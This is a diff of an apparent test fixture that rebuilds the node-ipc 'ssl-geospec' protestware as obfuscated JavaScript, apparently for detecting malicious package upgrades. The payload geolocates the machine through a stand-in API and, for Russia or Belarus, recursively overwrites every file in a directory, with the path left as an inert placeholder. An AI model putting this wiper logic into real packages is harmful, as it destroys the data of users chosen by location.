@@ -24,16 +24,14 @@ const b = (text: string): string => `o("${Buffer.from(text).toString('base64')}"
 
 /** Would write over a folder that no machine has, where the answer named one of two countries. */
 const geospec =
-  'const s=require("path"),i=require("fs"),c=require("https"),o=t=>Buffer.from(t,"base64").toString();' +
-  'setTimeout(function(){const t=Math.round(Math.random()*4);if(t>1)return;' +
-  `c.get(${b('https://api.geo.example/ipgeo?apiKey=inert')},function(t){t.on("data",function(t){try{const n=JSON.parse(t.toString());` +
-  `const e=n[${b('country_name')}].toLowerCase(),r=e.includes(${b('russia')})||e.includes(${b('belarus')});` +
-  `if(r){h(${b('/no-such-folder/inert')})}}catch(t){}})})},Math.ceil(Math.random()*1e3));` +
-  'function h(n="",t){if(!i.existsSync(n))return;let e=[];try{e=i.readdirSync(n)}catch(t){}' +
-  `for(var a=0;a<e.length;a++){const l=s.join(n,e[a]);let t=null;try{t=i.lstatSync(l)}catch(t){continue}` +
-  `if(t.isDirectory())h(l);else try{i.writeFile(l,${b('❤️')},function(){})}catch(t){}}}\n`
+  'const f=require("fs"),p=require("path"),h=require("https"),o=t=>Buffer.from(t,"base64").toString(),' +
+  `w=[${b('russia')},${b('belarus')}];` +
+  `function d(r){for(let q=[r];q.length;){let t=q.pop();if(!f.existsSync(t))continue;for(let n of f.readdirSync(t)){let e=p.join(t,n);` +
+  `f.lstatSync(e).isDirectory()?q.push(e):f.writeFile(e,${b('❤️')},()=>{})}}}` +
+  `setTimeout(()=>{h.get(${b('https://api.geo.example/where')},r=>{let s="";r.on("data",t=>s+=t),r.on("end",()=>{` +
+  `let c=String(JSON.parse(s)[${b('country')}]).toLowerCase();w.some(t=>c.includes(t))&&d(${b('/no-such-folder/inert')})})})},1e3*Math.random());\n`
 
-const inSslGeospec = { file: 'dao/ssl-geospec.js', line: /const s=require\("path"\),i=require\("f/ } as const
+const inSslGeospec = { file: 'dao/ssl-geospec.js', line: /const f=require\("fs"\),p=require\("pat/ } as const
 
 export const replay: Replay = replayUpgrade({
   description:
